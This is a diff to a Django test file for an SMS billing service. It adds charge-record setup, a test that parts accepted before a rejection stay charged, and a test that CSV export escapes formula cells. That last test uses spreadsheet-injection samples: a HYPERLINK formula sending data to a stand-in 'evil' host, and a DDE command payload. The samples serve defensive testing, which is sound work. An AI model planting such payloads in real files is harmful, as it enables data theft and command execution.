@@ -31,8 +31,9 @@ from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
 
+from billing.models import Cdr
 from conftest import login_as
-from sms.models import Message
+from sms.models import Message, SmsJob
 from sms.selectors_reports import (
     MessageFilters,
     ReportInvalid,
@@ -62,6 +63,7 @@ def message_make(customer, at: datetime, **fields) -> Message:
     per_part = D(fields.pop("price_per_part", "0.05"))
     charged = fields.pop("charged", True)
     refunded = fields.pop("refunded", False)
+    kept_parts = fields.pop("kept_parts", None)
     values = {
         "customer": customer,
         "request_id": uuid.uuid4(),
@@ -87,6 +89,20 @@ def message_make(customer, at: datetime, **fields) -> Message:
     message = Message.objects.create(**values)
     Message.objects.filter(pk=message.pk).update(created_at=at)  # created_at is set on insert
     message.created_at = at
+    if charged:  # the charge record submission writes (a refund leaves the parts an SMSC accepted in it)
+        kept = kept_parts if kept_parts is not None else (0 if refunded else parts)
+        Cdr.objects.create(
+            source="sms",
+            source_id=str(message.pk),
+            service="sms",
+            callee=message.destination.lstrip("+"),
+            start=at,
+            units=kept,
+            status="rated",
+            price=per_part * kept,
+            cost=message.cost * kept / parts,
+            currency=message.currency,
+        )
     return message
 
 
@@ -176,6 +192,47 @@ def test_today_just_after_midnight_in_madrid_is_already_the_next_day(sms_world, 
     assert today["date"].isoformat() == "2026-03-10" and today["messages"] == 5
 
 
+def test_parts_an_smsc_accepted_before_the_message_was_rejected_stay_in_the_credit(demo_client, sms_world, in_schema):
+    """A 3-part message whose first part went out before every gateway refused the rest: 1 part stays charged."""
+    from sms.selectors_jobs import jobs_progress
+    from sms.services import messages_claim, submission_results_record
+    from sms.services.submission import MessageOutcome, PartOutcome
+
+    response = demo_client.post(
+        "/api/v1/sms/messages",
+        {"to": "+34612345678", "text": "a" * 400},
+        content_type="application/json",
+        **sms_world.auth,
+    )
+    assert response.status_code == 201, response.content
+    message_id = response.json()["messages"][0]["id"]
+    with in_schema("demo"):
+        (submission,) = messages_claim(token="test-runner", limit=10, choose=lambda gateways: gateways[0])
+        gateway_id = sms_world.gateway.pk
+        submission.accepted[0] = ("a0", gateway_id)
+        submission.tried.add(gateway_id)
+        submission_results_record(
+            parts=[PartOutcome(message_id, 0, gateway_id, 0, "a0"), PartOutcome(message_id, 1, gateway_id, 0x45, None)],
+            completed=[MessageOutcome(submission, rejected_status=0x45)],
+        )
+        message = Message.objects.get(pk=message_id)
+        assert (message.status, message.parts, message.price) == ("rejected", 3, D("0.15"))
+        customer = sms_world.client.customer
+        start, end = message.created_at - timedelta(hours=1), message.created_at + timedelta(hours=1)
+        (row,) = sms_message_report(customer=customer, start=start, end=end)
+        summary = sms_summary_report(customer=customer, start=start, end=end)
+        today = sms_today_totals(customer=customer, now=message.created_at)
+        job = SmsJob.objects.create(customer=customer, sender="TEXTCO", template="t", number_column="to", total_rows=1)
+        Message.objects.filter(pk=message_id).update(job=job)
+        spent = jobs_progress(jobs=[job])[job.pk]["spent"]
+    assert row["credit"] == D("0.05")  # the kept part, not 0
+    ((line,), (total,)) = summary["rows"], summary["totals"]
+    assert (line["parts"], line["credit"], line["unit_price"]) == (1, D("0.05"), D("0.05"))
+    assert (total["parts"], total["credit"]) == (1, D("0.05"))
+    assert (today["parts"], today["credit"]) == (1, D("0.05"))
+    assert spent == D("0.05")  # a job's progress counts it alike
+
+
 # --- per message ----------------------------------------------------------------------------------------------------
 
 
@@ -244,6 +301,20 @@ def test_the_message_report_refuses_a_client_filter_from_a_client_and_long_perio
     with in_schema("demo"), pytest.raises(ReportInvalid) as error:
         sms_message_report(customer=None, start=madrid_day(2025, 1, 1), end=madrid_day(2026, 1, 3))
     assert error.value.field == "to" and "366" in str(error.value)
+
+
+def test_the_message_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(sms_world, in_schema):
+    with in_schema("demo"):
+        at = utc("2026-03-10T09:00")
+        message_make(sms_world.client.customer, at, client_reference='=HYPERLINK("http://evil/?"&A1)', sender="@SUM")
+        message_make(sms_world.client.customer, at, client_reference="-2+3", error_description="+cmd|' /C calc'!A0")
+        rows = sms_message_report(customer=None, start=at, end=at + timedelta(minutes=1))
+        lines = list(csv.reader(io.StringIO("".join(sms_message_report_csv(rows=rows, staff=True, tz="UTC")))))
+    header, *body = lines
+    cells = [dict(zip(header, line, strict=True)) for line in body]
+    assert [c["client_reference"] for c in cells] == ["'-2+3", '\'=HYPERLINK("http://evil/?"&A1)']
+    assert cells[1]["sender"] == "'@SUM" and cells[0]["description"] == "'+cmd|' /C calc'!A0"
+    assert cells[0]["number"] == "+34612345678"  # a plain number stays as it is
 
 
 def test_the_message_csv_has_the_report_columns_in_the_operators_time(sms_world, traffic, in_schema):
